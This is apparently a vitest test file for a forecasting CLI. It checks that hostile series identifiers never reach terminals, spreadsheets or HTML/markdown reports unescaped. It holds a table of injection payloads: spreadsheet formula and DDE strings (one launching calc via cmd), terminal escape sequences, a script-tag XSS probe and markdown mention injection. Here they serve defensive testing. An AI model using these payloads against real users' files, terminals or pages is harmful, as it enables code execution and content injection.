import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { readTable } from "../../src/panel/table.js";
import { retrain, retrainJson } from "../support/cli.js";
import { simpleProject } from "../support/project.js";

/** What people put into ids and names, in jest or not. */
const HOSTILE: Readonly<Record<string, string>> = {
  H001: '=HYPERLINK("http://x"&A1)',
  H002: "-2+3+cmd|' /C calc'!A0",
  H003: "\u001b]0;owned\u0007\u001b[2J\u001b[31mred",
  H004: "\u009b31mC1\u0085 \u202eevil",
  H005: "<script>alert(1)</script>",
  H006: "| a | `b` **c** @team [x](http://y)",
  H007: "＝1+1",
  H008: "@SUM(1)",
  H009: "\u0000nul\u0008",
};

test("cells are data: no terminal obeys them, no spreadsheet runs them, no page renders them", async () => {
  const cwd = simpleProject();
  const lines = readFileSync(join(cwd, "fixtures", "demand.csv"), "utf8").split("\n");
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const panel = lines.map((line) => {
    const [id, ...rest] = line.split(",");
    // Far from what was to be expected, so that they are the rows of the escalation.
    if (HOSTILE[id!] !== undefined && rest[0]! >= "2025-04" && rest[0]! <= "2025-06") {
      const at = lines[0]!.split(",").indexOf("room_nights") - 1;
      rest[at] = String(20 * Number(rest[at]));
    }
    return [HOSTILE[id!] === undefined ? id : quoted(HOSTILE[id!]!), ...rest].join(",");
  });
  // NUL is refused as binary; it reaches us by Parquet alone.
  writeFileSync(join(cwd, "hostile.csv"), panel.join("\n").replaceAll("\u0000", ""));
  const set = ["--set", "data.source=hostile.csv", "--set", "outlook.levels=[0.8]"];
  const { exitCode, document, stderr } = await retrainJson(["quarter", "2025Q2", ...set], { cwd });
  expect(exitCode, stderr).toBe(3);
  const said = [stderr];
  for (const command of [
    ["status"],
    ["status", "--json"],
    ["escalation"],
    ["escalation", "--json"],
    ["escalation", "--rows"],
    ["report", "--format", "junit"],
    ["report", "--format", "github"],
    ["report", "--format", "html"],
    ["plan", "2025Q2", ...set],
    ["explain", "2025Q2", "validate", ...set],
    ["explain", "2025Q2", "validate", "--set", "data.source=fixtures/demand.csv"],
    ["check", ...set],
    ["check", "--set", "data.source=\u001b[31mx.csv", "--set", "mode=\u001b[31mx"],
    ["quarter", "2025Q2", "--dry-run", "--fresh", "--events", "-", ...set],
  ]) {
    const { stdout, stderr } = await retrain(command, { cwd });
    said.push(stdout, stderr);
    if (command.includes("--json") && stdout !== "") JSON.parse(stdout);
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that none is there is the point
  for (const text of said) expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  expect(said.join("")).toContain("HYPERLINK");

  const steps = join(cwd, ".retrain", "runs", document.run, "steps");
  const outlook = join(steps, "outlook", "outlook");
  const idsOf = async (file: string) =>
    new Set(
      (await readTable(join(outlook, file), [{ name: "series", type: "VARCHAR" }]))[0]!.values as string[],
    );
  const original = await idsOf("outlook.parquet");
  expect(original).toContain(HOSTILE.H001);
  expect(original).toContain(HOSTILE.H007);
  const written = await idsOf("outlook.csv");
  for (const id of ["H001", "H002", "H007", "H008"]) {
    expect(written).toContain(`'${HOSTILE[id]}`);
    expect(written).not.toContain(HOSTILE[id]);
  }
  expect(written).toContain(HOSTILE.H005);
  const rows = readFileSync(join(cwd, ".retrain", "runs", document.run, "escalation", "rows.csv"), "utf8");
  expect(rows).toContain("'=HYPERLINK");
  expect(rows).not.toMatch(/^"?[=@＝]/m);

  for (const page of [
    "report.html",
    "escalation/escalation.html",
    "escalation/escalation.md",
    "job-summary.md",
    "junit.xml",
  ]) {
    const text = readFileSync(join(cwd, ".retrain", "runs", document.run, page), "utf8");
    expect(text).not.toContain("<script>alert(1)");
    expect(text).not.toContain(" **c** ");
    expect(text).not.toContain(" @team");
  }
  expect(readdirSync(cwd)).not.toContain("owned");

  const kept = await retrainJson(["quarter", "2025Q2", ...set, "--set", "csv.formulas=keep"], { cwd });
  expect(kept.document.steps.find(({ id }) => id === "outlook")?.status).toBe("succeeded");
  const raw = join(cwd, ".retrain", "runs", kept.document.run, "steps", "outlook", "outlook", "outlook.csv");
  expect(readFileSync(raw, "utf8")).toContain(`\n${HOSTILE.H008},`);
});
